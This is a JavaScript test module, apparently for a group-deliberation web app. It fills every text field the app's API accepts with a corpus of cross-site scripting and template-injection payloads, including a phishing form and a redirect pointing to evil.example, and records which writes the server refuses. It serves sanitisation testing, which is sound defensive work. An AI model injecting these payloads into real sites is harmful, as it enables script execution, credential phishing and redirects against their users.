// Texts that are made to be run by a browser, written into every field that takes words: the corpus of the attacks.
import { bySteps, deliberating, group, inDays, members } from './prepare.mjs';
import { as, signedIn } from './service.mjs';

/** Each is tried in short fields by turns; long ones take all of them. */
export const CORPUS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' autofocus onfocus=alert(1) x='",
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg/onload=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">a</a>',
  '[a](javascript:alert(1))',
  '[b](data:text/html,<script>alert(1)</script>)',
  '![c](x" onerror="alert(1))',
  '<javascript:alert(1)>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</bdi></li></ul><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '--><script>alert(1)</script><!--',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %> #{1}',
  '<details open ontoggle=alert(1)>d</details>',
  '<form action="https://evil.example"><button>Sign in</button></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;script&#x3e;',
];

/** An address that is one, and would still end an attribute that is not quoted well. */
const URL_OF_ILL = "https://example.org/'onmouseover='alert(1)";

let turn = 0;
/** One of them, for a field that takes little. */
const one = () => CORPUS[turn++ % CORPUS.length];
/** All of them, for a field that takes much. */
const all = () => CORPUS.join('\n\n');

/** Writes them wherever a seat can. Gives what was refused, which the caller judges, and how much was written. */
export async function poison(demo) {
  const made = await deliberating(demo, 'Poisoned', all());
  const { id } = await group(demo);
  const seats = await members(demo);
  const refused = [];
  let written = 0;
  const hands = new Map();
  const write = async (seat, method, path, body, revision) => {
    if (!hands.has(seat)) hands.set(seat, await signedIn(demo, seat));
    const { status, value } = await hands.get(seat).try(method, path, body, { revision });
    if (status >= 400) refused.push(`${method} ${path.replace(/[0-9a-f]{8}-[0-9a-f-]{27}/g, '{id}')} ${status} ${value.detail ?? ''} ${JSON.stringify(value.errors ?? '')}`);
    else written += 1;
    return value;
  };
  const revision = async (path) => (await as(demo, 'Facilitator').get(path)).revision;
  await people(write, demo, id, seats);
  const steps = await bySteps(demo);
  await texts(write, made, id, revision, steps.get('topic').id);
  await discussion(write, made);
  await running(write, made, id, seats, steps.get('pilot').id);
  return { refused, written, made };
}

/** Names of people, of what they stand for, and of the group. */
async function people(write, demo, id, seats) {
  for (const seat of ['Civil society 2', 'Government 2', 'Observer', 'Secretariat']) {
    const { revision } = await as(demo, seat).get('/account');
    await write(seat, 'PATCH', '/account', { name: one() }, revision);
  }
  for (const seat of ['Civil society 2', 'Government 3']) {
    const member = seats.get(seat);
    await write('Secretariat', 'PATCH', `/members/${member.id}`, { organisation: one(), region: one(), focal_point_of: one() }, member.revision);
  }
  const { revision, charter } = await as(demo, 'Chair').get(`/groups/${id}`);
  await write('Chair', 'PATCH', `/groups/${id}`, {
    name: `Group ${one()}`, summary: all(), parent_body: one(),
    charter: { mandate: one(), mandate_checks: charter.mandate_checks.map((check) => ({ ...check, text: one() })) },
  }, revision);
  await write('Secretariat', 'POST', `/groups/${id}/invitations`, { email: 'x@people.example', name: one(), organisation: one(), role: 'stakeholder', stakeholder_group: 'CS' });
  await write('Chair', 'POST', `/groups/${id}/service-accounts`, { name: one(), role: 'observer' });
  await write('Chair', 'POST', '/tokens', { name: one(), scopes: ['read'] });
}

/** Titles and texts of proposals, topics, positions. */
async function texts(write, { proposal, topic, position }, id, revision, inTopic) {
  await write('Facilitator', 'PATCH', `/proposals/${proposal}`, { title: one(), summary: all() }, await revision(`/proposals/${proposal}`));
  for (const payload of CORPUS.slice(0, 6)) await write('Chair', 'POST', `/groups/${id}/proposals`, { title: payload, summary: all(), language: 'en' });
  const provenance = { body: one(), title: one(), source_url: URL_OF_ILL, quote: all(), licence: one(), process: all(), endorsers: [one(), one()] };
  await write('Civil society 1', 'POST', `/proposals/${inTopic}/topics`, { title: one(), description: all(), new_community: one(), provenance });
  await write('Civil society 1', 'POST', `/proposals/${proposal}/positions`, { topic_id: topic, title: one() });
  await write('Government 1', 'POST', `/positions/${position}/amendments`, { based_on: 1, replacement: `${all()}\n\nchanged ${one()}`, reason: all().slice(0, 4900) });
  await write('Government 2', 'POST', `/positions/${position}/amendments`, { based_on: 1, passage: { quote: { exact: CORPUS[0], suffix: `\n\n${CORPUS[1]}` } }, replacement: one(), reason: one() });
  await write('Civil society 1', 'POST', `/positions/${position}/versions`, { kind: 'substantive', based_on: 1, text: `Second.\n\n${all()}`, change_note: all().slice(0, 4900) });
  await write('Civil society 1', 'POST', `/positions/${position}/versions`, { kind: 'editorial', based_on: 2, text: `Second.\n\n${all()}\n\n.`, change_note: one() });
  await write('Government 1', 'POST', `/positions/${position}/versions/3/disputes`, { reason: one() });
  await write('Government 1', 'POST', `/topics/${topic}/impacts`, { dimension: 'economic', direction: 'mixed', severity: 'low', text: all().slice(0, 4900) });
}

/** Comments of every kind, on passages too; what is said of them; stances and objections. */
async function discussion(write, { proposal, position }) {
  const comment = await write('Civil society 3', 'POST', `/proposals/${proposal}/comments`, { kind: 'concern', subject: { kind: 'proposal', id: proposal }, body: all(), channel: 'nri', initiative: one() });
  await write('Observer', 'POST', `/proposals/${proposal}/comments`, { kind: 'note', body: all(), parent_id: comment.id });
  const quote = { exact: CORPUS[5], suffix: `\n\n${CORPUS[6]}` };
  const about = { subject: { kind: 'position', id: position } };
  const anchored = await write('Civil society 4', 'POST', `/proposals/${proposal}/comments`, { kind: 'question', body: all(), ...about, anchor: { version: 3, quote } });
  await write('Civil society 3', 'PATCH', `/comments/${comment.id}`, { body: `${all()} again` }, comment.revision);
  await write('Government 1', 'POST', `/comments/${comment.id}/reports`, { reason: one() });
  await write('Facilitator', 'PUT', `/comments/${comment.id}/disposition`, { disposition: 'declined', reason: all().slice(0, 4900) }, comment.revision + 1);
  await write('Facilitator', 'POST', `/proposals/${proposal}/summaries`, { text: all(), subject: { kind: 'proposal', id: proposal }, comment_ids: [comment.id, anchored.id].filter(Boolean) });
  await write('Government 1', 'POST', `/positions/${position}/stances`, { version: 3, stance: 'accept', reason: all().slice(0, 4900) });
  const short = () => all().slice(0, 4900);
  const objection = await write('Government 3', 'POST', `/positions/${position}/objections`, { version: 3, ground: 'clarity', summary: short(), harm: short(), remedy: short(), anchor: one() });
  await write('Facilitator', 'POST', `/objections/${objection.id}/responses`, { body: all(), substantive: true });
}

/** What runs beside: rounds, pilots, resources, concerns, calls for a role, packages, templates, addresses of programs. */
async function running(write, { proposal }, id, seats, inPilot) {
  const short = () => all().slice(0, 4900);
  const [closes, far] = [`${inDays(20)}:00Z`, `${inDays(40)}:00Z`];
  await write('Facilitator', 'POST', `/proposals/${proposal}/rounds`, { title: one(), purpose: short(), audience: short(), promise: 'consult', closes_at: closes });
  await write('Facilitator', 'POST', `/proposals/${inPilot}/pilots`, {
    title: one(), instrument: 'external', tool: one(), aim: short(), population: short(),
    measures: [{ name: one(), unit: 'hours', target: one() }], starts_at: closes, ends_at: far,
  });
  await write('Facilitator', 'POST', `/proposals/${proposal}/engagements`, {
    audience: { kind: 'community', name: one() }, begins_on: closes.slice(0, 10), ends_on: far.slice(0, 10), channels: ['nri'], promise: 'inform', purpose: short(), region: one(),
  });
  await write('Facilitator', 'POST', `/proposals/${proposal}/resources`, { amount: '3', kind: 'hours', stage: 'planned', purpose: one() });
  await write('Civil society 1', 'POST', `/proposals/${proposal}/concerns`, { about: 'time', text: short() });
  await write('Facilitator', 'POST', `/proposals/${proposal}/packages`, { title: one(), request: short(), answer_by: closes, focal_point_ids: [seats.get('Civil society 2').id] });
  await write('Chair', 'POST', `/groups/${id}/role-calls`, { role: 'secretariat', text: short(), closes_at: closes });
  await write('Facilitator', 'POST', `/groups/${id}/deadline-templates`, { name: one(), days_before: { topic: 150 } });
  await write('Facilitator', 'POST', `/groups/${id}/programme-items`, { title: one(), reason: short(), responsible: one(), from_year: 2027, to_year: 2028 });
  await write('Chair', 'POST', `/groups/${id}/webhooks`, { url: URL_OF_ILL, description: one(), events: [] });
}
